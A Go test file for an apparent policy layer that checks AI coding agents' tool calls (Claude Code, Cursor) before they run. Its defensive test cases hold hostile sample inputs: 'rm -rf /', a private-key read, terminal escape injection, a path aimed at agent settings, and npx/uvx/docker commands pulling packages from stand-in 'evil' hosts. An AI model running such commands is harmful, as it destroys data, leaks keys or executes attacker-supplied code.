package hooks

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/aporthq/aport/internal/eval"
)

func load(t *testing.T, name string) Payload {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "..", "testdata", "hosts", name))
	if err != nil {
		t.Fatal(err)
	}
	m, err := ParsePayload(b)
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return m
}

func TestFixtures(t *testing.T) {
	cases := []struct {
		file, host, capability, tool string
		check                        func(t *testing.T, c *eval.Call)
	}{
		{"claude-code/bash.json", Claude, "system.command.execute", "Bash", func(t *testing.T, c *eval.Call) {
			if c.Ctx.Command != "git status && go test ./..." || !c.Ctx.HasTimeout || c.Ctx.TimeoutMS != 120000 {
				t.Errorf("ctx %+v", c.Ctx)
			}
			if c.Cwd != "/home/dev/demo" || c.SessionID == "" {
				t.Errorf("cwd %q session %q", c.Cwd, c.SessionID)
			}
		}},
		{"claude-code/read.json", Claude, "data.file.read", "Read", func(t *testing.T, c *eval.Call) {
			if c.Ctx.Path != "/home/dev/demo/src/main.go" {
				t.Errorf("path %q", c.Ctx.Path)
			}
		}},
		{"claude-code/write.json", Claude, "data.file.write", "Write", func(t *testing.T, c *eval.Call) {
			if !c.Ctx.HasBytes || c.Ctx.Bytes != int64(len("package main\n\nfunc main() {}\n")) {
				t.Errorf("bytes %d", c.Ctx.Bytes)
			}
		}},
		{"claude-code/edit.json", Claude, "data.file.write", "Edit", func(t *testing.T, c *eval.Call) {
			if c.Ctx.Bytes != int64(len("fmt.Println(2)")) {
				t.Errorf("bytes %d", c.Ctx.Bytes)
			}
		}},
		{"claude-code/multiedit.json", Claude, "data.file.write", "MultiEdit", func(t *testing.T, c *eval.Call) {
			if c.Ctx.Bytes != 2 {
				t.Errorf("bytes %d", c.Ctx.Bytes)
			}
		}},
		{"claude-code/notebookedit.json", Claude, "data.file.write", "NotebookEdit", func(t *testing.T, c *eval.Call) {
			if c.Ctx.Path != "/home/dev/demo/analysis.ipynb" || c.Ctx.Bytes != 8 {
				t.Errorf("ctx %+v", c.Ctx)
			}
		}},
		{"claude-code/webfetch.json", Claude, "web.fetch", "WebFetch", func(t *testing.T, c *eval.Call) {
			if c.Ctx.URL != "https://docs.python.org/3/library/json.html" || c.Ctx.Method != "GET" {
				t.Errorf("ctx %+v", c.Ctx)
			}
		}},
		{"claude-code/websearch.json", Claude, "web.search", "WebSearch", func(t *testing.T, c *eval.Call) {
			if c.Ctx.Query == "" || len(c.Ctx.AllowedDomains) != 1 {
				t.Errorf("ctx %+v", c.Ctx)
			}
		}},
		{"claude-code/mcp.json", Claude, "mcp.tool.execute", "mcp__github__create_issue", func(t *testing.T, c *eval.Call) {
			if c.Ctx.Server != "github" || c.Ctx.MCPTool != "create_issue" || c.Ctx.ParamBytes == 0 {
				t.Errorf("ctx %+v", c.Ctx)
			}
		}},
		{"claude-code/task.json", Claude, "agent.session.create", "Task", func(t *testing.T, c *eval.Call) {
			if c.Ctx.SubagentType != "Explore" {
				t.Errorf("ctx %+v", c.Ctx)
			}
		}},
		{"claude-code/agent.json", Claude, "agent.session.create", "Agent", func(t *testing.T, c *eval.Call) {
			if c.Ctx.SubagentType != "Explore" || c.Internal {
				t.Errorf("ctx %+v internal %v", c.Ctx, c.Internal)
			}
		}},
		{"claude-code/notebookread.json", Claude, "data.file.read", "NotebookRead", func(t *testing.T, c *eval.Call) {
			if !c.Ctx.HasPath || c.Ctx.Path != "/home/dev/demo/analysis.ipynb" || c.Ctx.SearchRoot || c.Ctx.HasBytes {
				t.Errorf("ctx %+v", c.Ctx)
			}
		}},
		{"claude-code/todowrite.json", Claude, "", "TodoWrite", func(t *testing.T, c *eval.Call) {
			if !c.Internal {
				t.Error("TodoWrite not internal")
			}
		}},
		{"cursor/beforeShellExecution.json", Cursor, "system.command.execute", "Shell", func(t *testing.T, c *eval.Call) {
			if c.Ctx.Command != "git status" || c.Event != "beforeShellExecution" {
				t.Errorf("ctx %+v", c.Ctx)
			}
		}},
		{"cursor/beforeShellExecution-bom.json", Cursor, "system.command.execute", "Shell", nil},
		{"cursor/beforeShellExecution-cwd-empty.json", Cursor, "system.command.execute", "Shell", func(t *testing.T, c *eval.Call) {
			if c.Cwd != "/home/dev/demo" {
				t.Errorf("cwd %q", c.Cwd)
			}
		}},
		{"cursor/beforeReadFile.json", Cursor, "data.file.read", "Read", func(t *testing.T, c *eval.Call) {
			if c.Ctx.Path != "/home/dev/demo/src/app.ts" {
				t.Errorf("path %q", c.Ctx.Path)
			}
		}},
		{"cursor/beforeMCPExecution.json", Cursor, "mcp.tool.execute", "MCP:create_issue", func(t *testing.T, c *eval.Call) {
			if c.Ctx.Server != "api.githubcopilot.com" || c.Ctx.MCPTool != "create_issue" || !json.Valid(c.Input) {
				t.Errorf("ctx %+v input %s", c.Ctx, c.Input)
			}
		}},
		{"cursor/beforeMCPExecution-stdio.json", Cursor, "mcp.tool.execute", "MCP:query", func(t *testing.T, c *eval.Call) {
			if c.Ctx.Server != "@modelcontextprotocol/server-postgres" {
				t.Errorf("server %q", c.Ctx.Server)
			}
		}},
		{"cursor/preToolUse-shell.json", Cursor, "system.command.execute", "Shell", func(t *testing.T, c *eval.Call) {
			if c.Ctx.Command != "npm install && npm test" {
				t.Errorf("ctx %+v", c.Ctx)
			}
		}},
		{"cursor/preToolUse-write.json", Cursor, "data.file.write", "Write", nil},
		{"cursor/preToolUse-delete.json", Cursor, "data.file.write", "Delete", func(t *testing.T, c *eval.Call) {
			if !c.Ctx.Delete {
				t.Error("Delete not marked")
			}
		}},
		{"cursor/preToolUse-task.json", Cursor, "agent.session.create", "Task", func(t *testing.T, c *eval.Call) {
			if c.Ctx.SubagentType != "Explore" || c.Event != "preToolUse" || c.Cwd != "/home/dev/demo" {
				t.Errorf("ctx %+v event %q cwd %q", c.Ctx, c.Event, c.Cwd)
			}
		}},
		{"cursor/preToolUse-mcp.json", Cursor, "mcp.tool.execute", "MCP:create_issue", func(t *testing.T, c *eval.Call) {
			if !c.Ctx.ServerUnknown || c.Ctx.MCPTool != "create_issue" {
				t.Errorf("ctx %+v", c.Ctx)
			}
		}},
		{"generic/command.json", Generic, "system.command.execute", "system.command.execute", func(t *testing.T, c *eval.Call) {
			if c.Ctx.Command != "terraform plan" || c.Cwd != "/srv/infra" {
				t.Errorf("ctx %+v", c.Ctx)
			}
		}},
		{"generic/refund.json", Generic, "finance.payment.refund", "finance.payment.refund", func(t *testing.T, c *eval.Call) {
			if c.Ctx.Fields["currency"] != "USD" || c.AgentID != "refund-bot" {
				t.Errorf("fields %+v", c.Ctx.Fields)
			}
		}},
	}
	for _, tc := range cases {
		t.Run(tc.file, func(t *testing.T) {
			m := load(t, tc.file)
			if h := Detect(m); h != tc.host {
				t.Fatalf("detected %q, want %q", h, tc.host)
			}
			c, err := Decode(tc.host, m)
			if err != nil {
				t.Fatal(err)
			}
			if c.Capability != tc.capability || c.Tool != tc.tool {
				t.Fatalf("capability %q tool %q", c.Capability, c.Tool)
			}
			if tc.check != nil {
				tc.check(t, c)
			}
		})
	}
}

func TestInputErrors(t *testing.T) {
	cases := map[string]struct{ host, payload string }{
		"empty":                {Claude, ``},
		"spaces":               {Claude, "  \n"},
		"invalid":              {Claude, `{"tool_name":`},
		"array":                {Claude, `[{"tool_name":"Bash"}]`},
		"string":               {Claude, `"Bash"`},
		"null":                 {Claude, `null`},
		"duplicate tool_name":  {Claude, `{"session_id":"s","cwd":"/x","hook_event_name":"PreToolUse","tool_name":"TodoWrite","tool_name":"Bash","tool_input":{}}`},
		"no tool_name":         {Claude, `{"session_id":"s","cwd":"/x","hook_event_name":"PreToolUse","tool_input":{}}`},
		"no cwd":               {Claude, `{"session_id":"s","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls"}}`},
		"relative cwd":         {Claude, `{"session_id":"s","cwd":"demo","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls"}}`},
		"other event":          {Claude, `{"session_id":"s","cwd":"/x","hook_event_name":"PostToolUse","tool_name":"Bash","tool_input":{}}`},
		"tool_input string":    {Claude, `{"session_id":"s","cwd":"/x","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":"ls"}`},
		"command not string":   {Claude, `{"session_id":"s","cwd":"/x","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":["rm","-rf","/"]}}`},
		"content not string":   {Claude, `{"session_id":"s","cwd":"/x","hook_event_name":"PreToolUse","tool_name":"Write","tool_input":{"file_path":"/x/a","content":{"a":1}}}`},
		"edits not array":      {Claude, `{"session_id":"s","cwd":"/x","hook_event_name":"PreToolUse","tool_name":"MultiEdit","tool_input":{"file_path":"/x/a","edits":"x"}}`},
		"cursor no event":      {Cursor, `{"conversation_id":"c","workspace_roots":["/x"]}`},
		"cursor unknown event": {Cursor, `{"conversation_id":"c","workspace_roots":["/x"],"hook_event_name":"afterFileEdit"}`},
		"cursor no roots":      {Cursor, `{"conversation_id":"c","hook_event_name":"beforeShellExecution","command":"ls","cwd":""}`},
		"cursor mcp bad json":  {Cursor, `{"conversation_id":"c","workspace_roots":["/x"],"hook_event_name":"beforeMCPExecution","tool_name":"q","tool_input":"{nope","url":"https://a.b/"}`},
		"cursor mcp no server": {Cursor, `{"conversation_id":"c","workspace_roots":["/x"],"hook_event_name":"beforeMCPExecution","tool_name":"q","tool_input":"{}"}`},
		"generic no input":     {Generic, `{"tool":"web.fetch"}`},
		"generic input array":  {Generic, `{"tool":"web.fetch","input":[]}`},
		"generic no tool":      {Generic, `{"input":{}}`},
		"no host":              {"", `{"hello":"world"}`},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			m, err := ParsePayload([]byte(tc.payload))
			if err == nil {
				_, err = Decode(tc.host, m)
			}
			if err == nil {
				t.Fatal("decoded without error")
			}
		})
	}
}

func TestEncode(t *testing.T) {
	deny := eval.Deny(mustTime(), "oap.command_not_allowed", `rm is not in "allowed_commands"`)
	allow := &eval.Decision{Allow: true, Reasons: []eval.Reason{{Code: "oap.allowed", Message: "ok"}}}
	for _, tc := range []struct {
		host string
		d    *eval.Decision
		want map[string]any
	}{
		{Claude, deny, map[string]any{"hookSpecificOutput": map[string]any{"hookEventName": "PreToolUse", "permissionDecision": "deny", "permissionDecisionReason": `aport: rm is not in "allowed_commands" [oap.command_not_allowed]`}}},
		{Claude, allow, map[string]any{"hookSpecificOutput": map[string]any{"hookEventName": "PreToolUse", "permissionDecision": "allow", "permissionDecisionReason": "aport: ok [oap.allowed]"}}},
	} {
		var buf bytes.Buffer
		if err := Encode(&buf, tc.host, tc.d); err != nil {
			t.Fatal(err)
		}
		var got map[string]any
		if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
			t.Fatalf("%s: invalid JSON %q", tc.host, buf.String())
		}
		gb, _ := json.Marshal(got)
		wb, _ := json.Marshal(tc.want)
		if !bytes.Equal(gb, wb) {
			t.Errorf("%s:\n got %s\nwant %s", tc.host, gb, wb)
		}
	}
	var buf bytes.Buffer
	Encode(&buf, Cursor, deny)
	var cur map[string]string
	if err := json.Unmarshal(buf.Bytes(), &cur); err != nil {
		t.Fatalf("cursor: %v %q", err, buf.String())
	}
	for _, k := range []string{"user_message", "agent_message", "userMessage", "agentMessage"} {
		if cur[k] == "" {
			t.Errorf("cursor answer lacks %s", k)
		}
	}
	if cur["permission"] != "deny" {
		t.Errorf("permission %q", cur["permission"])
	}
	buf.Reset()
	Encode(&buf, Generic, deny)
	var gen map[string]any
	if err := json.Unmarshal(buf.Bytes(), &gen); err != nil || gen["allow"] != false {
		t.Fatalf("generic: %v %s", err, buf.String())
	}
}

func TestSplitClaudeMCP(t *testing.T) {
	for in, want := range map[string][2]string{
		"mcp__github__create_issue":       {"github", "create_issue"},
		"mcp__my_server__do_thing":        {"my_server", "do_thing"},
		"mcp__plugin_x__tool__with__subs": {"plugin_x", "tool__with__subs"},
		"mcp__noserver":                   {"noserver", ""},
	} {
		s, tl := SplitClaudeMCP(in)
		if s != want[0] || tl != want[1] {
			t.Errorf("%s → %q %q", in, s, tl)
		}
	}
}

func FuzzDecode(f *testing.F) {
	for _, name := range []string{"claude-code/bash.json", "cursor/beforeMCPExecution.json", "generic/refund.json"} {
		b, _ := os.ReadFile(filepath.Join("..", "..", "testdata", "hosts", name))
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		m, err := ParsePayload(b)
		if err != nil {
			return
		}
		for _, h := range []string{Claude, Cursor, Generic} {
			if c, err := Decode(h, m); err == nil && c == nil {
				t.Fatal("nil call without error")
			}
		}
	})
}

// TestSearchRoot: Glob, Grep and LS read the directory they search; a Glob
// pattern's leading literal directories move that root.
func TestSearchRoot(t *testing.T) {
	cases := []struct{ tool, input, want string }{
		{"Grep", `{"pattern":"TODO"}`, "/w"},
		{"Grep", `{"pattern":"TODO","path":"src"}`, "src"},
		{"LS", `{"path":"/etc"}`, "/etc"},
		{"Glob", `{"pattern":"**/*.go"}`, "/w"},
		{"Glob", `{"pattern":"src/**/*.go"}`, "/w/src"},
		{"Glob", `{"pattern":"*.go","path":"/w/pkg"}`, "/w/pkg"},
		{"Glob", `{"pattern":"/etc/*.conf"}`, "/etc"},
		{"Glob", `{"pattern":"/*"}`, "/"},
		{"Glob", `{"pattern":"../../x/*.txt","path":"/w/a"}`, "/w/a/../../x"},
		{"Glob", `{"pattern":"~/.ssh/*"}`, "~/.ssh"},
		{"Glob", `{"pattern":"C:\\Users\\*"}`, "C:/Users"},
		{"Glob", `{"pattern":"docs/readme.md"}`, "/w/docs"},
	}
	for _, tc := range cases {
		m, err := ParsePayload([]byte(`{"session_id":"s","cwd":"/w","hook_event_name":"PreToolUse","tool_name":"` + tc.tool + `","tool_input":` + tc.input + `}`))
		if err != nil {
			t.Fatal(err)
		}
		c, err := Decode(Claude, m)
		if err != nil {
			t.Fatalf("%s %s: %v", tc.tool, tc.input, err)
		}
		if c.Ctx.Path != tc.want || !c.Ctx.SearchRoot || c.Capability != "data.file.read" {
			t.Errorf("%s %s: path %q searchRoot %v, want %q", tc.tool, tc.input, c.Ctx.Path, c.Ctx.SearchRoot, tc.want)
		}
	}
}

// TestSummaryIsSafeForTerminals: a tool name chosen by an MCP server reaches
// stderr and the host through the reason: no control character gets
// through, and a huge name is cut.
func TestSummaryIsSafeForTerminals(t *testing.T) {
	d := &eval.Decision{Reasons: []eval.Reason{{Code: "oap.tool_not_allowed", Message: "tool x\x1b]52;c;ZWNobw==\a\x1b[2J is not allowed " + strings.Repeat("y", 10000)}}}
	s := Summary(d)
	if strings.ContainsAny(s, "\x1b\a") || !strings.Contains(s, `\x1b]52`) || len(s) > MaxSummary {
		t.Fatalf("Summary = %.200q (%d bytes)", s, len(s))
	}
}

// TestClaudeBashIgnoresWorkingDirectory: Claude Code runs Bash in the
// session's cwd; a working_directory in the tool input (which the model
// writes) must not move where aport resolves the command's paths. Cursor's
// Shell tool does run there.
func TestClaudeBashIgnoresWorkingDirectory(t *testing.T) {
	m, err := ParsePayload([]byte(`{"session_id":"s","cwd":"/home/dev/demo","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"cat keys/audit.ed25519","working_directory":"/tmp"}}`))
	if err != nil {
		t.Fatal(err)
	}
	c, err := Decode(Claude, m)
	if err != nil {
		t.Fatal(err)
	}
	if c.Cwd != "/home/dev/demo" {
		t.Fatalf("cwd %q, want the session's", c.Cwd)
	}
	m, err = ParsePayload([]byte(`{"conversation_id":"c","generation_id":"g","hook_event_name":"preToolUse","cwd":"/home/dev/demo","workspace_roots":["/home/dev/demo"],"tool_name":"Shell","tool_input":{"command":"ls","working_directory":"/home/dev/demo/sub"}}`))
	if err != nil {
		t.Fatal(err)
	}
	if c, err = Decode(Cursor, m); err != nil || c.Cwd != "/home/dev/demo/sub" {
		t.Fatalf("Cursor Shell: cwd %q, %v", c.Cwd, err)
	}
}

// TestPathFieldsMustAgree: a call with two path fields naming different
// files is refused; which one the tool acts on is the tool's business.
func TestPathFieldsMustAgree(t *testing.T) {
	m, err := ParsePayload([]byte(`{"session_id":"s","cwd":"/w","hook_event_name":"PreToolUse","tool_name":"NotebookEdit","tool_input":{"file_path":"src/a.ipynb","notebook_path":"/w/.claude/settings.json","new_source":"x"}}`))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Decode(Claude, m); err == nil || !strings.Contains(err.Error(), "different paths") {
		t.Fatalf("Decode: %v", err)
	}
	m, _ = ParsePayload([]byte(`{"session_id":"s","cwd":"/w","hook_event_name":"PreToolUse","tool_name":"NotebookEdit","tool_input":{"file_path":"src/a.ipynb","notebook_path":"src/a.ipynb","new_source":"x"}}`))
	if c, err := Decode(Claude, m); err != nil || c.Ctx.Path != "src/a.ipynb" {
		t.Fatalf("agreeing fields: %v", err)
	}
}

// TestStdioServerFailsClosed: options that make a runner start something
// other than the package it names, a docker option not known here, and a
// program named by a path do not pass for a known server's name.
func TestStdioServerFailsClosed(t *testing.T) {
	for cmd, want := range map[string]string{
		"npx -y @modelcontextprotocol/server-postgres@1.2 postgres://x": "@modelcontextprotocol/server-postgres",
		"npx --package=@evil/pkg @modelcontextprotocol/server-postgres": "",
		"uvx --from=evil-pkg mcp-server-git":                            "",
		"uvx mcp-server-git":                                            "mcp-server-git",
		"docker run -i --rm -e TOKEN mcp/github":                        "mcp/github",
		"docker run --label mcp/github ghcr.io/evil/x":                  "ghcr.io/evil/x",
		"docker run --entrypoint /bin/sh mcp/github":                    "",
		"docker run --some-new-flag x mcp/github":                       "",
		"/tmp/evil/mcp-server-git":                                      "/tmp/evil/mcp-server-git",
		"mcp-server-git --repository .":                                 "mcp-server-git",
	} {
		if got := StdioServer(cmd); got != want {
			t.Errorf("StdioServer(%q) = %q, want %q", cmd, got, want)
		}
	}
}

// TestStdioServerFromElsewhere: a package from another source than the
// registry (a git URL, a github: spec, an npm: alias, a tarball URL, a
// registry or index option, a local path) is not a known server.
func TestStdioServerFromElsewhere(t *testing.T) {
	for _, cmd := range []string{
		"uvx git+https://evil/mcp-server-git",
		"npx github:evil/github",
		"npx @modelcontextprotocol/server-postgres@npm:evil-pkg",
		"npx @modelcontextprotocol/server-postgres@https://evil/x.tgz",
		"npx --@modelcontextprotocol:registry=https://evil @modelcontextprotocol/server-postgres",
		"uvx --index=https://evil mcp-server-git",
		"npx ./local-server",
		"npx --userconfig=/tmp/evil/npmrc -y @modelcontextprotocol/server-postgres",
		"npx --cache mcp-server-git evil-pkg",
		"uvx --python=/tmp/evil/python mcp-server-git",
		"pipx run --pip-args=--index-url=https://evil mcp-server-git",
	} {
		if got := StdioServer(cmd); got != "" {
			t.Errorf("StdioServer(%q) = %q, want unknown", cmd, got)
		}
	}
}
